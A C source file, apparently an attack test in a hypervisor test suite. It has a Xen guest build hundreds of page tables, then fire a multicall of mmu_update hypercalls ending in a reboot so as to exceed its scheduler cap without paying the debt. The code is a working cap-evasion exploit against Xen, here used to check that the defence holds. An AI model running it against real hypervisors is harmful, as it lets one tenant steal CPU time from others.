/*
 * Wants: more than its cap, by owing it when it ends.
 *
 * A cap is not looked at within a chunk of requests: eleven calls of sixteen, each of which validates or gives up 300 tables, run far
 * over it, and the debt is paid afterwards. The same multicall ends in a reboot, and there is no afterwards.
 *
 * Fails: who is built again still owes what its last life had used up.
 */
#include "attack.h"
#include "clock.h"
#include "guest.h"
#include "memory.h"
#include "tap.h"

#include <paravane/hypercall.h>
#include <xen/sched.h>
#include <xen/vcpu.h>

static mmu_update_t u[16];
static multicall_entry_t calls[32];

void guest_main(void)
{
    const unsigned n = guest_option("calls", 11);
    attack_begin("cap-debt");
    if (!attack_goes_on())
        guest_shutdown(SHUTDOWN_poweroff);
    hypercall_vcpu_op(VCPUOP_stop_periodic_timer, 0, NULL);
    const void *data = page_alloc();
    uint64_t *l3 = page_alloc(), *l2 = page_alloc(), *l1 = NULL;
    const uint64_t e = pte_of(page_mfn(data), PTE_RW);
    const unsigned tables = guest_option("tables", 300);
    for (unsigned t = 0; t < tables; t++) {
        l1 = page_alloc();
        for (unsigned i = 0; i < 512; i++)
            l1[i] = e;
        page_protect(l1, PTE_RO);
        l2[t] = pte_of(page_mfn(l1), PTE_TABLE);
    }
    l3[0] = pte_of(page_mfn(l2), PTE_TABLE);
    page_protect(l2, PTE_RO);
    page_protect(l3, PTE_RO);
    const uint64_t at = (memory_root_mfn() << PAGE_SHIFT) + 16 * 8;
    for (unsigned i = 0; i < 16; i++)
        u[i] = (mmu_update_t){at, i % 2 ? 0 : pte_of(page_mfn(l3), PTE_TABLE)};
    static struct sched_shutdown s = {.reason = SHUTDOWN_reboot};
    for (unsigned i = 0; i < n; i++)
        calls[i] = (multicall_entry_t){.op = __HYPERVISOR_mmu_update,
                                       .args = {(unsigned long)u, 16, 0, DOMID_SELF}};
    calls[n] = (multicall_entry_t){.op = __HYPERVISOR_sched_op,
                                   .args = {SCHEDOP_shutdown, (unsigned long)&s}};
    tap_note("%u tables, at %lu ms", tables, clock_ns() / 1000000);
    hypercall_multicall(calls, n + 1);
    attack_again();
}
